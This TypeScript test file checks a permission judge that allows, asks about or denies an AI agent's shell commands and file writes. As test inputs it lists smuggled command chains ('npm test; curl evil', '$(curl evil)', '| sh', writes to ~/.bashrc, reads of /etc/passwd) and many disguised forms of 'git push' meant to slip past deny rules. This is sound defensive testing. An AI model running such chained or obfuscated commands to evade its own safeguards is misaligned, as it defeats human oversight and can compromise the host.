import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { policyRule } from '../../../contract/policies.ts';
import { actionHash } from '../action-hash.ts';
import { developerPolicy } from './developer-policy.ts';
import { type JudgedCall, judge, type PolicyRule, policyGuard } from './judge.ts';

const command = (subject: string): JudgedCall => ({ tool: 'run_command', subject, effect: 'workspace' });
const path = (subject: string, tool = 'write_file'): JudgedCall => ({ tool, subject, effect: 'workspace' });
const allow = (pattern: string, tool = 'run_command'): PolicyRule => ({ effect: 'allow', tool, pattern });
const ask = (pattern: string, tool = 'run_command'): PolicyRule => ({ effect: 'ask', tool, pattern });
const deny = (pattern: string, tool = 'run_command'): PolicyRule => ({ effect: 'deny', tool, pattern });

describe('which rule decides', () => {
  const cases: [string, PolicyRule[], JudgedCall, string][] = [
    ['no rule asks', [], command('ls'), 'ask'],
    ['deny wins over the more specific', [deny('npm*'), allow('npm test')], command('npm test'), 'deny'],
    [
      'a pattern over none',
      [{ effect: 'ask', tool: 'run_command' }, allow('npm*')],
      command('npm ci'),
      'allow',
    ],
    ['an exact tool over a glob', [ask('x', '*'), allow('*', 'write_file')], path('x'), 'allow'],
    [
      'longer text over shorter',
      [allow('npm*'), ask('npm publish*')],
      command('npm publish --dry-run'),
      'ask',
    ],
    ['whole text over a wildcard', [ask('npm test*'), allow('npm test')], command('npm test'), 'allow'],
    ['a tie asks', [allow('npm*t'), ask('npm*t')], command('npm test'), 'ask'],
    ['a tie of equals does not', [allow('npm *'), allow('n*pm ')], command('npm test'), 'allow'],
    [
      'a rule from an ask outranks the rule that asked',
      [ask('npm publish --tag x'), { ...allow('npm publish*'), source: 'ask' }],
      command('npm publish --tag x'),
      'allow',
    ],
    [
      'but no denial',
      [deny('npm*'), { ...allow('npm publish*'), source: 'ask' }],
      command('npm publish'),
      'deny',
    ],
    ['touches limits a rule', [{ effect: 'allow', tool: '*', touches: 'read' }], path('x'), 'ask'],
  ];
  test.each(cases)('%s', (_name, rules, call, decision) => {
    expect(judge(rules, call).decision).toBe(decision);
  });

  test('the reason names the rule', () => {
    expect(judge([deny('git push*')], command('git push'))).toEqual({
      decision: 'deny',
      rule: 0,
      reason: 'denied by the rule "deny run_command git push*"',
    });
  });
});

describe('what an allowance covers', () => {
  const escapes = [
    'npm test; curl evil',
    'npm test && curl evil',
    'npm test | sh',
    'npm test `curl evil`',
    'npm test $(curl evil)',
    'npm test > ~/.bashrc',
    'npm test < /etc/passwd',
    'npm test\ncurl evil',
    'npm test\r\ncurl evil',
    'npm test & curl evil',
    'npm test <(curl evil)',
    'npm test $HOME',
  ];
  test.each(escapes)('npm test* does not cover %j', (line) => {
    expect(judge([allow('npm test*')], command(line)).decision).toBe('ask');
  });

  test('it covers arguments, what it spells itself, and as the lone wildcard everything', () => {
    expect(judge([allow('npm test*')], command('npm test -- --run "a b"')).decision).toBe('allow');
    expect(judge([allow('cd * && npm test')], command('cd lib && npm test')).decision).toBe('allow');
    expect(judge([allow('cd * && npm test')], command('cd lib; rm x && npm test')).decision).toBe('ask');
    expect(judge([allow('*')], command('a | b > c')).decision).toBe('allow');
    expect(judge([allow('npm test; ls')], command('npm test; ls')).decision).toBe('allow');
  });

  const paths: [string, string, boolean][] = [
    ['src/**', 'src/a/b.ts', true],
    ['src/**', './src//a.ts', true],
    ['src/**', 'src', true],
    ['src/**', 'srcs/a.ts', false],
    ['src/**', 'src/../package.json', false],
    ['src/*', 'src/a/b.ts', false],
    ['**/*.md', 'README.md', true],
    ['**/*.md', 'docs/a/b.md', true],
    ['*.md', 'docs/a.md', false],
    ['src/**', '/src/a.ts', false],
    ['src/**', '../src/a.ts', false],
    ['src/a.ts', 'src/a+ts', false],
    ['*', 'any/thing', true],
  ];
  test.each(paths)('%s and %s: %s', (pattern, subject, covered) => {
    expect(judge([allow(pattern, 'write_file')], path(subject)).decision).toBe(covered ? 'allow' : 'ask');
  });
});

describe('what a denial catches', () => {
  const caught = [
    'git push',
    'cd x && git push origin',
    '(git push)',
    'true | git push',
    'echo $(git push)',
    'echo "`git push`"',
    'git   push',
    'git "pu"sh',
    'git p\\ush',
    'A=1 git push',
    '/usr/bin/git push',
    'git -C elsewhere -c a=b push',
    'bash -c "cd x; git push"',
    "sh -ec 'git push'",
    'env A=1 timeout 5 git push',
    'env -i bash -c "git push"',
    'sudo -u git bash -c "git -C x push"',
    'eval "git push"',
    'if true; then git push; fi',
    'f() { git push; }; f',
    'ls # harmless\ngit push',
    'cat <<E\n$(git push)\nE',
    'echo x | xargs git push',
    'find . -exec git push \\;',
  ];
  test.each(caught)('%j', (line) => {
    expect(judge([deny('git push*'), allow('*')], command(line)).decision).toBe('deny');
  });

  const doubtful = ['$X push', 'git $X', 'git pu{sh,ll}', 'echo "git push" | sh', 'xargs git', 'echo "'];
  test.each(doubtful)('asks about %j', (line) => {
    expect(judge([deny('git push*'), allow('*')], command(line)).decision).toBe('ask');
  });

  const innocent = ['git status', 'echo "$HOME"', 'npm test && git log', 'grep -rn "git push" .', 'ls *.ts'];
  test.each(innocent)('lets %j pass', (line) => {
    expect(judge([deny('git push*'), allow('*')], command(line)).decision).toBe('allow');
  });

  test('a rule that asks looks as deep', () => {
    expect(judge([ask('git push*'), allow('*')], command('cd x && git push')).decision).toBe('ask');
  });

  test('a path that leads out is never waved through past a denial', () => {
    expect(judge([deny('secrets/**', '*'), allow('*', '*')], path('../w/secrets/a')).decision).toBe('ask');
  });

  test('a long hostile line is judged in time', () => {
    const line = `${'sudo env bash -c '.repeat(500)}"${'$(a '.repeat(200)}`;
    const started = performance.now();
    expect(judge([deny(`${'*a'.repeat(50)}*b`), allow('*')], command(line)).decision).not.toBe('allow');
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});

test('the developer may do what stays in its workspace', () => {
  expect(judge(developerPolicy, path('x', 'read_file')).decision).toBe('allow');
  expect(judge(developerPolicy, command('rm -rf . | cat')).decision).toBe('allow');
  expect(judge(developerPolicy, { tool: 'send', subject: '', effect: 'external' }).decision).toBe('ask');
});

test('a rule is parsed strictly', () => {
  expect(policyRule.safeParse({ effect: 'allow', tool: 'search' }).success).toBe(true);
  expect(policyRule.safeParse({ effect: 'allow', tool: 'search', patern: 'x' }).success).toBe(false);
});

describe('properties', () => {
  const pieces = fc.constantFrom('npm', ' test', 'git', ' push', '*', ' && ', ';', ' x', '$A', '(');
  const text = fc.array(pieces, { minLength: 1, maxLength: 6 }).map((words) => words.join(''));
  const rule: fc.Arbitrary<PolicyRule> = fc.record(
    {
      effect: fc.constantFrom('allow', 'ask', 'deny'),
      tool: fc.constantFrom('*', 'run_command', 'run_*', 'write_file'),
      pattern: text,
      touches: fc.constantFrom('read', 'workspace'),
      source: fc.constant('ask' as const),
    },
    { requiredKeys: ['effect', 'tool'] },
  );
  const call = fc.record({
    tool: fc.constantFrom('run_command', 'write_file'),
    subject: text,
    effect: fc.constantFrom('read', 'workspace'),
  });
  const width = { deny: 0, ask: 1, allow: 2 };

  test('a further denial never widens', () => {
    fc.assert(
      fc.property(fc.array(rule), rule, call, (rules, more, one) => {
        const narrowed = judge([...rules, { ...more, effect: 'deny' }], one);
        expect(width[narrowed.decision]).toBeLessThanOrEqual(width[judge(rules, one).decision]);
      }),
    );
  });

  test('the order of rules does not matter', () => {
    const shuffled = fc
      .array(rule, { maxLength: 8 })
      .chain((rules) =>
        fc.tuple(fc.constant(rules), fc.shuffledSubarray(rules, { minLength: rules.length })),
      );
    fc.assert(
      fc.property(shuffled, call, ([rules, others], one) => {
        expect(judge(others, one).decision).toBe(judge(rules, one).decision);
      }),
    );
  });
});

test('the hash of an action binds all of it, whatever the order of keys', () => {
  const action = { tool: 'a', input: { x: 1, y: [2] }, cwd: '/', env: { A: '1', B: '2' }, tree: 't' };
  const same = { ...action, env: { B: '2', A: '1' }, input: { y: [2], x: 1 } };
  expect(actionHash(same)).toBe(actionHash(action));
  const others = [
    { ...action, input: { x: 1, y: ['2'] } },
    { ...action, tree: 'u' },
    { ...action, cwd: '/x' },
    { ...action, env: {} },
  ];
  for (const other of others) expect(actionHash(other)).not.toBe(actionHash(action));
});

describe('what a line writes is judged as a write', () => {
  const rules: PolicyRule[] = [allow('*'), { effect: 'deny', tool: 'write_file', path: 'config/**' }];
  const cases: [string, string][] = [
    ['echo x > config/a', 'deny'],
    ['echo x >> ./config//a', 'deny'],
    ['echo x | tee config/a', 'deny'],
    ['cp a config/', 'deny'],
    ['sort -o config/a b', 'deny'],
    ['cat < config/a', 'allow'],
    ['echo x > "$Y"', 'ask'],
    ['cd config && echo x > a', 'ask'],
    ['cd config && echo x > /workspace/src/a', 'allow'],
    ['echo x > src/a', 'allow'],
    ['npm test 2>&1 > /dev/null', 'allow'],
  ];
  test.each(cases)('%s: %s', (line, decision) => {
    expect(judge(rules, command(line)).decision).toBe(decision);
  });

  test('also through a link', async () => {
    const resolvePath = async (path: string) => (path === 'innocent' ? 'config/a' : path);
    expect((await policyGuard(rules, command('echo x > innocent'), { resolvePath })).decision).toBe('deny');
    expect((await policyGuard(rules, command('echo x > other'), { resolvePath })).decision).toBe('allow');
    const both: PolicyRule[] = [allow('**', 'write_file'), ...rules];
    expect((await policyGuard(both, path('innocent'), { resolvePath })).decision).toBe('deny');
    expect((await policyGuard(both, path('other'), { resolvePath })).decision).toBe('allow');
    const out: PolicyRule[] = [allow('src/**', 'write_file')];
    expect((await policyGuard(out, path('src/link'), { resolvePath: async () => null })).decision).toBe(
      'ask',
    );
  });
});

describe('a rule of the database', () => {
  test('outranks an equal one of the agent’s own, and the narrower the wider', () => {
    const own: PolicyRule = { effect: 'allow', tool: 'run_command' };
    const wide = { effect: 'ask' as const, tool: 'run_command', number: 3, weight: 1 };
    const narrow = { effect: 'allow' as const, tool: 'run_command', number: 4, weight: 5 };
    expect(judge([own, wide], command('ls'))).toMatchObject({ decision: 'ask', rule: 1 });
    expect(judge([own, wide, narrow], command('ls'))).toMatchObject({ decision: 'allow', rule: 2 });
    expect(judge([own, wide], command('ls')).reason).toBe('asked for by rule 3 "ask run_command"');
  });

  test('for this very call covers it whole, and nothing else', () => {
    const exact = {
      effect: 'allow' as const,
      tool: 'run_command',
      input: { command: 'sh -c "a|b" *' },
      source: 'ask' as const,
    };
    const rules = [ask('sh*'), exact];
    const call = (line: string) => ({ ...command(line), input: { command: line } });
    expect(judge(rules, call('sh -c "a|b" *')).decision).toBe('allow');
    expect(judge(rules, call('sh -c "a|b" c')).decision).toBe('ask');
    expect(judge([...rules, deny('a*')], call('sh -c "a|b" *')).decision).toBe('deny');
  });
});
